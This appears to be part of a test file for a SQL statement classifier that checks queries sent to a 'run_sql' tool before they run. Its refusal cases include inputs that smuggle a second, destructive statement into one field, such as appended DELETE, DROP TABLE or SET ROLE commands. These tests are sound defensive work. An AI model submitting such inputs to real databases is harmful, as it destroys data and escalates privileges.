        // Refused by the parser itself is fine too; a crash is not.
        expect(error).toBeInstanceOf(DrawbridgeError);
        continue;
      }
      // Whether the walk exhausts the stack depends on the machine's stack: either it is
      // classified correctly (a read), or it fails closed as unknown with the reason.
      if (request.operation === 'unknown') {
        expect(request.access).toBe('unknown');
        expect(request.reasons.join(' ')).toContain('nested too deeply');
      } else {
        expect(request).toMatchObject({ operation: 'select', access: 'read' });
      }
    }
  });

  it('reports session side effects and statements that need autocommit', () => {
    expect(classify('SELECT 1').touchesSession).toBe(false);
    expect(classify('DELETE FROM orders').touchesSession).toBe(false);
    expect(classify('SET search_path = x').touchesSession).toBe(true);
    expect(classify("SELECT set_config('a.b', 'c', false)").touchesSession).toBe(true);
    expect(classify('LISTEN x').touchesSession).toBe(true);
    expect(classify('VACUUM orders').needsAutocommit).toBe(true);
    expect(classify('CREATE DATABASE x').needsAutocommit).toBe(true);
    expect(classify('ANALYZE orders').needsAutocommit).toBe(true);
    expect(classify('DELETE FROM orders').needsAutocommit).toBe(false);
  });
});

type TableRow = readonly [sql: string, tables: readonly string[]];

/** Expected tables as `schema.name` (or bare `name`), compared as sets. */
const TABLES: readonly TableRow[] = [
  ['SELECT * FROM public.customers c JOIN sales.orders o ON true', ['public.customers', 'sales.orders']],
  ['SELECT * FROM customers WHERE id IN (SELECT customer_id FROM orders)', ['customers', 'orders']],
  ['SELECT (SELECT max(id) FROM orders), * FROM customers, LATERAL (SELECT 1 FROM invoices) i', ['customers', 'orders', 'invoices']],
  // A CTE name shadows a table only where it is visible.
  ['WITH customers AS (SELECT 1) SELECT * FROM customers', []],
  ['WITH c AS (SELECT 1) SELECT * FROM customers, c', ['customers']],
  ['WITH orders AS (SELECT 1) SELECT * FROM public.orders', ['public.orders']],
  // Non-recursive: an item sees only the items before it.
  ['WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b', ['b']],
  ['WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b', []],
  ['WITH t AS (SELECT * FROM t) SELECT * FROM t', ['t']],
  // Recursive: every item sees every item, itself included.
  ['WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a', []],
  ['WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT * FROM t', []],
  // A nested WITH's names are not visible outside it.
  ['SELECT * FROM (WITH orders AS (SELECT 1) SELECT * FROM orders) s, orders', ['orders']],
  ['WITH a AS (WITH b AS (SELECT 1) SELECT * FROM b) SELECT * FROM a, b', ['b']],
  ['SELECT (WITH x AS (SELECT 1) SELECT * FROM x), (SELECT * FROM x)', ['x']],
  ['WITH x AS (SELECT 1) SELECT * FROM customers WHERE id IN (SELECT * FROM x)', ['customers']],
  ['WITH x AS (SELECT 1) SELECT 1 UNION SELECT * FROM x', []],
  ['(WITH x AS (SELECT 1) SELECT * FROM x) UNION SELECT * FROM x', ['x']],
  // The target of INSERT / UPDATE / DELETE / MERGE is always the real table.
  ['WITH customers AS (SELECT 1) DELETE FROM customers', ['customers']],
  ['WITH x AS (SELECT 1) INSERT INTO x SELECT * FROM x', ['x']],
  ["WITH orders AS (SELECT 1 AS id) UPDATE orders SET note = 'x' FROM orders o2 WHERE o2.id = 1", ['orders']],
  ['WITH o AS (SELECT 1 AS id) MERGE INTO o USING o AS s ON true WHEN MATCHED THEN DELETE', ['o']],
  ['WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d', ['orders']],
  ['WITH d AS (DELETE FROM orders RETURNING *) INSERT INTO archive.orders SELECT * FROM d', ['orders', 'archive.orders']],
  // Tables named outside FROM.
  ['SELECT * INTO backup FROM customers', ['backup', 'customers']],
  ['CREATE TABLE backup AS SELECT * FROM customers', ['backup', 'customers']],
  ['DROP TABLE IF EXISTS public.customers, orders CASCADE', ['public.customers', 'orders']],
  ['DROP VIEW v', ['v']],
  ['DROP INDEX s.customers_email', ['s.customers_email']],
  ['DROP TRIGGER tr ON s.orders', ['s.orders']],
  ['DROP POLICY p ON customers', ['customers']],
  ["COMMENT ON COLUMN public.customers.ssn IS 'x'", ['public.customers']],
  ["COMMENT ON TABLE customers IS 'x'", ['customers']],
  ['DROP FUNCTION f()', []],
  ['TRUNCATE orders, customers', ['orders', 'customers']],
  ['LOCK customers, orders', ['customers', 'orders']],
  ['ALTER TABLE customers ADD COLUMN x int', ['customers']],
  ['GRANT SELECT ON customers TO PUBLIC', ['customers']],
  ['COPY customers TO STDOUT', ['customers']],
  ['VACUUM orders, customers', ['orders', 'customers']],
  ['SELECT * FROM U&"d\\0061ta"', ['data']],
  ['SELECT * FROM "Mixed Case"', ['Mixed Case']],
  ['SELECT * FROM CUSTOMERS', ['customers']],
  ['SELECT 1', []],
];

describe('tables', () => {
  it.each(TABLES.map(([sql, tables]) => ({ sql, tables })))('$sql', ({ sql, tables }) => {
    const c = classify(sql);
    const got = c.tables.map((t) => (t.schema === null ? t.name : `${t.schema}.${t.name}`));
    expect([...got].sort()).toEqual([...tables].sort());
    // No duplicates, and collectTables alone agrees.
    expect(new Set(got).size).toBe(got.length);
    expect(collectTables(only(sql))).toEqual(c.tables);
  });
});

type FunctionRow = readonly [sql: string, functions: readonly string[]];

const FUNCTIONS: readonly FunctionRow[] = [
  ['SELECT lower(email), pg_catalog.upper(full_name), public.mask(ssn) FROM customers', ['lower', 'pg_catalog.upper', 'public.mask']],
  ["SELECT count(*) FROM orders GROUP BY date_trunc('day', created_at)", ['count', 'date_trunc']],
  ['SELECT lower(a), lower(b), LOWER(c) FROM t', ['lower']],
  ['SELECT * FROM generate_series(1, 2) g, unnest(ARRAY[1]) u', ['generate_series', 'unnest']],
  ['SELECT (SELECT max(id) FROM orders WHERE f(id)) ORDER BY g()', ['max', 'f', 'g']],
  ['SELECT "MyFunc"(1), s."Other"()', ['MyFunc', 's.Other']],
  ['SELECT EXTRACT(year FROM created_at) FROM orders', ['pg_catalog.extract']],
  ['CALL ops.archive(30)', ['ops.archive']],
  ['SELECT 1 + 2, id::text, CAST(id AS bigint) FROM t', []],
];

describe('functions', () => {
  it.each(FUNCTIONS.map(([sql, functions]) => ({ sql, functions })))('$sql', ({ sql, functions }) => {
    const got = classify(sql).functions.map((f) => (f.schema === null ? f.name : `${f.schema}.${f.name}`));
    expect([...got].sort()).toEqual([...functions].sort());
  });
});

describe('parseRunSql', () => {
  const context = { tool: 'run_sql', connection: 'shop' };
  const refusal = (sql: string): DrawbridgeError => {
    try {
      parseRunSql({ sql }, context);
    } catch (error) {
      expect(error).toBeInstanceOf(DrawbridgeError);
      return error as DrawbridgeError;
    }
    throw new Error(`expected ${JSON.stringify(sql)} to be refused`);
  };

  const REFUSED: ReadonlyArray<readonly [sql: string, code: string]> = [
    ['', 'sql.empty'],
    ['   ', 'sql.empty'],
    ['\n\t  \r\n', 'sql.empty'],
    ['-- just a comment', 'sql.empty'],
    ['/* block */', 'sql.empty'],
    ['/* a */ -- b\n', 'sql.empty'],
    [';', 'sql.empty'],
    [' ; ;; ', 'sql.empty'],
    ['SELEC 1', 'sql.parse_error'],
    ['SELECT (', 'sql.parse_error'],
    ["SELECT 'unterminated", 'sql.parse_error'],
    ['SELECT $$unterminated', 'sql.parse_error'],
    ['SELECT 1 /* unterminated', 'sql.parse_error'],
    ['DELETE orders', 'sql.parse_error'],
    ['SELECT 1\u0000; DELETE FROM orders', 'sql.parse_error'],
    ['SELECT 1; DELETE FROM orders', 'sql.multiple_statements'],
    ['COMMIT; DELETE FROM orders', 'sql.multiple_statements'],
    ['SELECT 1;;SELECT 2', 'sql.multiple_statements'],
    ['SET ROLE postgres; SELECT 1', 'sql.multiple_statements'],
    ['SELECT 1; -- trailing\nSELECT 2;', 'sql.multiple_statements'],
    ['BEGIN; DROP TABLE customers; COMMIT', 'sql.multiple_statements'],
  ];

  it.each(REFUSED.map(([sql, code]) => ({ sql, code })))('refuses $sql with $code', ({ sql, code }) => {
    const error = refusal(sql);
    expect(error.code).toBe(code);
    expect(error.message.length).toBeGreaterThan(0);
  });

  it('reports where a syntax error is', () => {
    expect(refusal('SELECT * FROM customers WHERE').message).toMatch(/at character \d+/);
  });

  it('counts the statements it refuses', () => {
    expect(refusal('SELECT 1; SELECT 2; SELECT 3').details).toMatchObject({ statements: 3 });
  });

  const ACCEPTED: ReadonlyArray<readonly [sql: string, operation: string, access: string, resources: readonly string[]]> = [
    ['SELECT 1;', 'select', 'read', []],
    ['SELECT 1 ;  ', 'select', 'read', []],
    [';SELECT 1', 'select', 'read', []],
    ['SELECT 1; -- trailing comment', 'select', 'read', []],
    ['SELECT 1 /* ; DELETE FROM orders */', 'select', 'read', []],
    ['SELECT * FROM customers c JOIN public.orders o ON o.customer_id = c.id', 'select', 'read', ['customers', 'public.orders']],
    ['DELETE FROM orders WHERE id = 1;', 'delete', 'write', ['orders']],
    ['EXPLAIN ANALYZE DELETE FROM orders', 'delete', 'write', ['orders']],
    ['SET search_path = x', 'session', 'admin', []],
  ];

  it.each(ACCEPTED.map(([sql, operation, access, resources]) => ({ sql, operation, access, resources })))(
    'parses $sql',
    ({ sql, operation, access, resources }) => {
      const request = parseRunSql({ sql }, context);
      expect(request).toMatchObject({ tool: 'run_sql', toolType: 'run_sql', connection: 'shop', operation, access });
      expect([...request.resources].sort()).toEqual([...resources].sort());
      expect(request.input).toEqual({ connection: 'shop', sql });
      expect(request.reasons.length).toBeGreaterThan(0);
    },
  );

  it('lists the functions a statement calls', () => {
    expect(parseRunSql({ sql: 'SELECT lower(email), pg_catalog.now() FROM customers' }, context).detail.functions).toEqual(['lower', 'pg_catalog.now']);
  });
});
